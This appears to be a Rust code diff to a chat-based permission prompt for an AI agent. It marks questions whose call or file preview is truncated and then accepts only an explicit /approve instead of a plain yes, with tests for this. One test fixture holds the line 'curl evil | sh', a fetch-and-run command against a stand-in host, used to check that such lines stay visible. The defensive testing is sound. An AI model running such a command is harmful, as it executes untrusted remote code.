@@ -11,8 +11,10 @@ use std::fmt::Write as _;
 /// stand. At four bytes each the question still fits into every message: the shortest holds 2,000 bytes, on Signal.
 const HEAD: usize = 140;
 const TAIL: usize = 60;
-/// Most bytes of a question.
+/// Most bytes of a question, below what the shortest message holds.
 const LONGEST: usize = 2_000;
+/// Bytes that say how to answer.
+const END: usize = 200;
 /// Bytes that say how many files, and that the agent's words, are left out.
 const REST: usize = 80;
 /// Bytes that say how many lines of a file are left out.
@@ -22,31 +24,70 @@ const LEFT_OUT: usize = 44;
 /// markup, and nothing in them is invisible or left out without a word. Of files that would change it shows as many
 /// lines as there is room for; the console shows all.
 pub(super) fn question(request: &PermissionRequest, number: &str, timeout: Interval) -> String {
-    let mut text = format!(
-        "🔐 The agent asks for your permission: `{}`\n",
-        line(&request.title)
-    );
+    let end = end(shows_all(request), number, timeout);
+    call(request).text + &end
+}
+
+/// True where the question leaves out nothing of what would be done.
+pub(crate) fn shows_all(request: &PermissionRequest) -> bool {
+    !call(request).is_cut
+}
+
+/// The answers that count.
+fn end(shows_all: bool, number: &str, timeout: Interval) -> String {
+    if shows_all {
+        format!("Answer yes or no within {timeout}, or /approve {number} or /deny {number}.")
+    } else {
+        format!(
+            "Not all of it is shown here, so a plain yes does not count. \
+             Answer /approve {number} or no within {timeout}."
+        )
+    }
+}
+
+/// Words of a call, and whether something is left out of them.
+#[derive(Default)]
+struct Excerpt {
+    text: String,
+    is_cut: bool,
+}
+
+/// The call, in what the end of the question leaves of its bytes.
+fn call(request: &PermissionRequest) -> Excerpt {
+    let title = shortened(&request.title);
+    let mut is_cut = title.is_cut;
+    let mut text = format!("🔐 The agent asks for your permission: `{}`\n", title.text);
     if let Some(arguments) = request.arguments.as_deref().map(str::trim)
         && !arguments.is_empty()
     {
+        let arguments = shortened(arguments);
+        is_cut |= arguments.is_cut;
         // Writing to a String cannot fail.
-        let _ = writeln!(text, "With: `{}`", line(arguments));
+        let _ = writeln!(text, "With: `{}`", arguments.text);
     }
-    let end = format!("Answer yes or no within {timeout}, or /approve {number} or /deny {number}.");
-    let room = LONGEST.saturating_sub(text.len() + end.len());
-    text + &preview(&request.preview, room) + &end
+    let room = LONGEST.saturating_sub(text.len() + END);
+    let preview = preview(&request.preview, room);
+    Excerpt {
+        text: text + &preview.text,
+        is_cut: is_cut || preview.is_cut,
+    }
 }
 
 /// The files that the call would touch, as lines of at most so many bytes in all: all of their names, then as many of
 /// their lines as there is room for, shared out. How much is left out is always told, for which [`REST`] is kept free.
-fn preview(preview: &CallPreview, room: usize) -> String {
+fn preview(preview: &CallPreview, room: usize) -> Excerpt {
     let CallPreview {
         changes,
         more_changes,
         locations,
         text,
     } = preview;
-    let mut room = room.saturating_sub(REST);
+    let (mut room, mut is_cut) = (room.saturating_sub(REST), false);
+    let mut line = |words: &str| {
+        let Excerpt { text, is_cut: cut } = shortened(words);
+        is_cut |= cut;
+        text
+    };
     // Every file before any line of one: no file may hide behind the lines of another.
     let heading = |change: &FileChange| {
         let FileChange {
@@ -73,11 +114,13 @@ fn preview(preview: &CallPreview, room: usize) -> String {
 
     let unnamed = changes.len() - named + locations.len() - located + *more_changes as usize;
 
+    is_cut |= unnamed > 0 || said < says.len();
     let mut shown = String::new();
     for (at, (heading, change)) in headings.iter().zip(changes).take(named).enumerate() {
         let lines = excerpt(&change.diff, room / (named - at));
-        room -= lines.len();
-        shown = shown + heading + &lines;
+        room -= lines.text.len();
+        is_cut |= lines.is_cut;
+        shown = shown + heading + &lines.text;
     }
     shown.extend(locations.into_iter().take(located));
     if said < says.len() {
@@ -88,7 +131,7 @@ fn preview(preview: &CallPreview, room: usize) -> String {
         // Writing to a String cannot fail.
         let _ = writeln!(shown, "… and {unnamed} files more");
     }
-    shown
+    Excerpt { text: shown, is_cut }
 }
 
 /// The number of these lines, from the first one, that there is room for; takes it from the room.
@@ -106,25 +149,34 @@ fn fitting<'a>(lines: impl IntoIterator<Item = &'a String>, room: &mut usize) ->
 
 /// The lines of a diff that change, in at most so many bytes: all of them, or the first and the last ones with the
 /// number of those between.
-fn excerpt(diff: &str, mut room: usize) -> String {
+fn excerpt(diff: &str, mut room: usize) -> Excerpt {
     let changed = diff.lines().filter(|line| line.starts_with(['+', '-']));
-    let lines: Vec<String> = changed.map(|changed| format!("`{}`\n", line(changed))).collect();
+    let mut is_cut = false;
+    let lines: Vec<String> = changed
+        .map(|changed| {
+            let line = shortened(changed);
+            is_cut |= line.is_cut;
+            format!("`{}`\n", line.text)
+        })
+        .collect();
     if lines.iter().map(String::len).sum::<usize>() <= room {
-        return lines.concat();
+        let text = lines.concat();
+        return Excerpt { text, is_cut };
     }
     room = room.saturating_sub(LEFT_OUT);
     let mut half = room / 2;
     let first = fitting(&lines, &mut half);
     room -= lines[..first].iter().map(String::len).sum::<usize>();
     let last = fitting(lines[first..].iter().rev(), &mut room);
-    match lines.len() - first - last {
+    let text = match lines.len() - first - last {
         // The heading says how many there are.
         left_out if left_out == lines.len() => String::new(),
         left_out => {
             let end = lines[lines.len() - last..].concat();
             format!("{}… {left_out} lines left out …\n{end}", lines[..first].concat())
         }
-    }
+    };
+    Excerpt { text, is_cut: true }
 }
 
 /// The sentence in the place of a question that is decided, with the line that says which call it was about.
@@ -157,14 +209,24 @@ pub(crate) enum Decider<'a> {
 
 /// Words as one line that can stand in a code span.
 pub(crate) fn line(words: &str) -> String {
+    shortened(words).text
+}
+
+fn shortened(words: &str) -> Excerpt {
     let words = words.trim().replace(char::is_control, " ");
     let plain: Vec<char> = visible(&words).chars().map(plain).collect();
     let text = |part: &[char]| part.iter().collect::<String>();
     match plain.len().saturating_sub(HEAD + TAIL) {
-        0 => text(&plain),
+        0 => Excerpt {
+            text: text(&plain),
+            is_cut: false,
+        },
         left_out => {
             let (head, tail) = (&plain[..HEAD], &plain[HEAD + left_out..]);
-            format!("{}… ({left_out} characters left out) …{}", text(head), text(tail))
+            Excerpt {
+                text: format!("{}… ({left_out} characters left out) …{}", text(head), text(tail)),
+                is_cut: true,
+            }
         }
     }
 }
@@ -219,7 +281,57 @@ mod tests {
             );
         }
         let whole = "é".repeat(HEAD + TAIL);
-        assert!(asked(&whole, None).contains(&format!("`{whole}`")));
+        let text = asked(&whole, Some(&whole));
+        assert_eq!(text.matches(&format!("`{whole}`")).count(), 2, "{text}");
+        assert!(text.ends_with("\nAnswer yes or no within 5m, or /approve 12-1 or /deny 12-1."));
+    }
+
+    /// Nobody allows with one word what nobody could read.
+    #[test]
+    fn a_plain_yes_is_no_answer_where_something_is_left_out() {
+        let long = "y".repeat(HEAD + TAIL + 1);
+        let file = |diff: String| CallPreview {
+            changes: vec![FileChange {
+                path: "a.md".to_owned(),
+                added: 1,
+                removed: 0,
+                diff,
+            }],
+            ..CallPreview::default()
+        };
+        let cut = [
+            asked(&long, None),
+            asked("x", Some(&long)),
+            previewed("x", None, file(format!("+{long}\n"))),
+            previewed("x", None, file("+of very many lines\n".repeat(200))),
+            previewed(
+                "x",
+                None,
+                CallPreview {
+                    more_changes: 1,
+                    ..file("+a\n".to_owned())
+                },
+            ),
+            previewed(
+                "x",
+                None,
+                CallPreview {
+                    text: Some(long.clone()),
+                    ..CallPreview::default()
+                },
+            ),
+        ];
+        for text in cut {
+            assert!(
+                text.ends_with(
+                    "\nNot all of it is shown here, so a plain yes does not count. \
+                     Answer /approve 12-1 or no within 5m."
+                ),
+                "{text}"
+            );
+        }
+        let text = previewed("x", None, file(format!(" {long}\n+a\n")));
+        assert!(text.contains("Answer yes or no"), "what stays as it is: {text}");
     }
 
     #[test]
@@ -254,7 +366,7 @@ mod tests {
         for (title, arguments) in [("x", None), (long.as_str(), Some(long.as_str()))] {
             let text = previewed(title, arguments, preview.clone());
             assert!(text.len() <= 2_000, "{}", text.len());
-            assert!(text.contains("files more\nAnswer yes or no"), "{text}");
+            assert!(text.contains("files more\nNot all of it is shown here"), "{text}");
         }
     }
 
@@ -281,7 +393,7 @@ mod tests {
         for shown in [
             "Changes `/tmp/x.sh`: +2001 −0\n`+nothing to see`\n",
             " lines left out …\n`+nothing to see`\n",
-            "`+curl evil | sh`\nChanges `/new/file`: +1 −0\n`+all`\nIt says: `Two files.`\nAnswer",
+            "`+curl evil | sh`\nChanges `/new/file`: +1 −0\n`+all`\nIt says: `Two files.`\nNot all of it",
         ] {
             assert!(text.contains(shown), "{text}");
         }
